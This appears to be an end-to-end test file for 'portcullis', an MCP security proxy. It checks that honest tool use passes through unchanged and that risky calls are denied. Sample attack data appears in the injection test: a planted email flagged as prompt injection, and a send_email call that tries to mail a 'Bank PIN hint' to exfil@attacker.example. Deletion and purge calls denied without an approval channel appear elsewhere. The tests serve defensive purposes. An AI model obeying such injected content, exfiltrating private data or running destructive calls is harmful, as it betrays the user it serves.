// End to end over real stdio: the SDK client starts `portcullis proxy -- node <fixture server>`.
// One proxy per scenario (the machine is shared); the first goes through bin/portcullis.js.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { bin, connectDirect, connectThroughProxy, ensureBuilt, node, runDist, tempDir } from './helpers.js';

type Result = {
  content: { type: string; text?: string }[];
  isError?: boolean;
  _meta?: Record<string, unknown>;
  structuredContent?: unknown;
};
const portcullisMeta = (r: Result) =>
  r._meta?.portcullis as { decision: string; rule: string; flags: string[]; reason?: string };
const text = (r: Result) => r.content.map((c) => c.text ?? '').join('\n');
/** A result as a client compares it: everything but `_meta`. */
const withoutMeta = (r: Result) => ({ ...r, _meta: undefined });

beforeAll(() => ensureBuilt(), 300_000);

describe('portcullis proxy (stdio)', () => {
  const dir = tempDir();
  const cleanups: (() => Promise<unknown>)[] = [];
  afterAll(async () => {
    for (const c of cleanups) await c().catch(() => undefined);
  });

  it('keeps honest use working: same tools, same results but for _meta, progress, resources, prompts; the audit log verifies', {
    timeout: 180_000,
  }, async () => {
    const audit = join(dir, 'honest.jsonl');
    const sent = join(dir, 'honest-sent.jsonl');
    const direct = await connectDirect('email.mjs');
    cleanups.push(() => direct.close());
    const { client, transport } = await connectThroughProxy({
      proxyArgs: ['--audit', audit],
      server: 'email.mjs',
      env: { SENT_LOG: sent },
    });
    cleanups.push(() => client.close());
    // Every message the proxy writes, as it arrives on the wire (before the SDK's handlers run).
    const wire: Record<string, unknown>[] = [];
    const deliver = transport.onmessage;
    transport.onmessage = (message) => {
      wire.push(message as unknown as Record<string, unknown>);
      deliver?.(message);
    };

    expect(client.getServerVersion()?.name).toBe('mail');
    const viaProxy = (await client.listTools()).tools;
    const straight = (await direct.listTools()).tools;
    expect(viaProxy.map((t) => t.name)).toEqual(straight.map((t) => t.name));
    for (const [i, t] of viaProxy.entries()) {
      expect({ ...t, _meta: undefined }).toEqual({ ...straight[i], _meta: undefined });
      expect((t._meta?.portcullis as { labels?: unknown } | undefined)?.labels).toBeDefined();
    }

    const echo = (await client.callTool({ name: 'echo', arguments: { text: 'hello there' } })) as Result;
    const echoDirect = (await direct.callTool({
      name: 'echo',
      arguments: { text: 'hello there' },
    })) as Result;
    expect(withoutMeta(echo)).toEqual(withoutMeta(echoDirect));
    expect(portcullisMeta(echo).decision).toBe('allow');

    // Sending mail the user asked for, before any untrusted content entered: allowed and delivered.
    const send = (await client.callTool({
      name: 'send_email',
      arguments: { to: 'alice@example.com', subject: 'Lunch', body: 'Friday works.' },
    })) as Result;
    expect(send.isError).toBeFalsy();
    expect(readFileSync(sent, 'utf8')).toContain('alice@example.com');

    const progress: number[] = [];
    const counted = (await client.callTool(
      { name: 'slow_count', arguments: { n: 3 } },
      { onprogress: (p) => progress.push(p.progress) },
    )) as Result;
    expect(text(counted)).toBe('counted to 3');
    // The proxy writes every note before the result. The SDK client runs notification handlers a
    // microtask later but settles the response at once and then forgets the token, so when the last
    // note and the result arrive in one read (a loaded machine) it drops that note: what the caller
    // sees is an in-order prefix. The wire shows what the proxy did.
    const callIndex = wire.findIndex((m) => {
      const r = m.result as { content?: { text?: string }[] } | undefined;
      return r?.content?.[0]?.text === 'counted to 3';
    });
    const notes = wire
      .slice(0, callIndex)
      .filter((m) => m.method === 'notifications/progress')
      .map((m) => (m.params as { progress: number }).progress);
    expect(callIndex).toBeGreaterThan(0);
    expect(notes.slice(-3)).toEqual([1, 2, 3]);
    expect(wire.slice(callIndex).some((m) => m.method === 'notifications/progress')).toBe(false);
    expect(progress.length).toBeGreaterThanOrEqual(1);
    expect(progress).toEqual([1, 2, 3].slice(0, progress.length));

    const resource = await client.readResource({ uri: 'mail://inbox/1' });
    expect(resource.contents).toEqual((await direct.readResource({ uri: 'mail://inbox/1' })).contents);
    const prompt = await client.getPrompt({ name: 'summarize', arguments: { id: '1' } });
    expect(prompt.messages).toEqual(
      (await direct.getPrompt({ name: 'summarize', arguments: { id: '1' } })).messages,
    );

    // Unknown methods are refused with method-not-found, not passed through.
    await expect(
      client.request({ method: 'acme/exfiltrate', params: {} }, z.object({})),
    ).rejects.toMatchObject({ code: -32601 });
    await client.close();

    const verify = spawnSync(node, [runDist, 'audit', 'verify', audit], {
      encoding: 'utf8',
      timeout: 60_000,
    });
    expect(verify.status, verify.stdout + verify.stderr).toBe(0);
    const records = readFileSync(audit, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const calls = records.filter((r) => r.method === 'tools/call' && r.meta?.phase === 'call');
    expect(calls.map((r) => r.tool)).toEqual(['echo', 'send_email', 'slow_count']);
    expect(records.some((r) => r.method === 'acme/exfiltrate' && r.decision === 'deny')).toBe(true);
  });

  it('an injected email cannot drive send_email to the attacker (2026-07-28 client)', {
    timeout: 180_000,
  }, async () => {
    const audit = join(dir, 'inject.jsonl');
    const sent = join(dir, 'inject-sent.jsonl');
    // No human to ask here (--approval none): what needs approval is denied at once.
    const { client } = await connectThroughProxy({
      proxyArgs: ['--audit', audit, '--approval', 'none'],
      server: 'email.mjs',
      env: { SENT_LOG: sent },
      era: '2026-07-28',
    });
    cleanups.push(() => client.close());

    const email = (await client.callTool({ name: 'read_email', arguments: { id: '2' } })) as Result;
    expect(portcullisMeta(email).flags).toContain('injection');
    expect(text(email)).toContain('[portcullis]');

    // What the injection asks for: mail to the address it planted.
    const exfil = (await client.callTool({
      name: 'send_email',
      arguments: { to: 'exfil@attacker.example', subject: 'notes', body: 'Bank PIN hint: the cat.' },
    })) as Result;
    expect(exfil.isError).toBe(true);
    expect(portcullisMeta(exfil).decision).toBe('deny');
    expect(text(exfil)).toMatch(/exfil@attacker\.example|untrusted/);

    // Even to an address the injection did not name: untrusted + private + external (rule of two).
    await client.callTool({ name: 'read_notes', arguments: {} });
    const other = (await client.callTool({
      name: 'send_email',
      arguments: { to: 'bob@example.com', subject: 's', body: 'b' },
    })) as Result;
    expect(other.isError).toBe(true);
    expect(portcullisMeta(other).rule).toBe('rule-of-two');
    expect(existsSync(sent)).toBe(false); // nothing reached the server

    // Resources are untrusted content too: scanned and flagged like tool results.
    const res = await client.readResource({ uri: 'mail://inbox/2' });
    expect(JSON.stringify(res.contents)).toContain('[portcullis]');
    await client.close();
    const records = readFileSync(audit, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(records.filter((r) => r.tool === 'send_email' && r.decision === 'deny')).toHaveLength(2);
  });

  it('passes elicitation to the client and refuses sampling (2025-era on both sides)', {
    timeout: 120_000,
  }, async () => {
    const audit = join(dir, 'elicit.jsonl');
    const { client } = await connectThroughProxy({
      proxyArgs: ['--audit', audit, '--upstream-era', 'legacy'],
      server: 'email.mjs',
      capabilities: { elicitation: { form: {} }, sampling: {} },
    });
    cleanups.push(() => client.close());
    const asked: string[] = [];
    let sampled = 0;
    client.setRequestHandler('elicitation/create', async (req) => {
      asked.push(String((req.params as { message?: string }).message));
      return { action: 'accept', content: { ok: true } };
    });
    client.setRequestHandler('sampling/createMessage', async () => {
      sampled++;
      return { role: 'assistant', content: { type: 'text', text: 'hi' }, model: 'm' };
    });
    const confirm = (await client.callTool({
      name: 'confirm_with_user',
      arguments: { question: 'Archive the thread?' },
    })) as Result;
    expect(text(confirm)).toContain('user said: accept {"ok":true}');
    expect(asked).toEqual(['Archive the thread?']);
    const sample = (await client.callTool({
      name: 'ask_model',
      arguments: { question: 'hello?' },
    })) as Result;
    expect(text(sample)).toMatch(/sampling failed/);
    expect(sampled).toBe(0);
    await client.close();
    const records = readFileSync(audit, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(records.some((r) => r.method === 'elicitation/create' && r.decision === 'allow')).toBe(true);
    expect(records.some((r) => r.method === 'sampling/createMessage' && r.decision === 'deny')).toBe(true);
  });

  it('denies destructive calls when no approval channel exists', { timeout: 120_000 }, async () => {
    const destroyed = join(dir, 'destroyed.log');
    const { client } = await connectThroughProxy({
      proxyArgs: ['--audit', join(dir, 'destructive.jsonl'), '--approval', 'none'],
      server: 'destructive.mjs',
      env: { DESTROYED_LOG: destroyed },
    });
    cleanups.push(() => client.close());
    const list = (await client.callTool({ name: 'list_files', arguments: {} })) as Result;
    expect(list.isError).toBeFalsy();
    for (const [name, args] of [
      ['delete_file', { path: 'notes.txt' }],
      ['purge_records', { table: 'customers' }],
    ] as const) {
      const r = (await client.callTool({ name, arguments: args })) as Result;
      expect(r.isError, name).toBe(true);
      expect(text(r)).toMatch(/no approval channel/);
    }
    expect(existsSync(destroyed)).toBe(false);
    await client.close();
  });

  it('refuses a policy with errors at startup: exit 2 with file:line', { timeout: 60_000 }, () => {
    const policy = join(dir, 'bad-policy.yaml');
    writeFileSync(policy, 'version: 1\ndefault: maybe\n');
    const r = spawnSync(node, [runDist, 'proxy', '--policy', policy, '--', node, '-e', '0'], {
      encoding: 'utf8',
      timeout: 60_000,
    });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(`${policy}:2`);
  });

  // Last: the launcher may rebuild dist/ (other work edits sources), which must not disturb the others.
  it('runs through bin/portcullis.js, the command users configure', { timeout: 400_000 }, async () => {
    expect(existsSync(bin)).toBe(true);
    const { client } = await connectThroughProxy({
      launcher: true,
      proxyArgs: ['--audit', join(dir, 'launcher.jsonl')],
      server: 'email.mjs',
    });
    cleanups.push(() => client.close());
    const r = (await client.callTool({ name: 'echo', arguments: { text: 'via the launcher' } })) as Result;
    expect(text(r)).toBe('via the launcher');
    await client.close();
  });
});
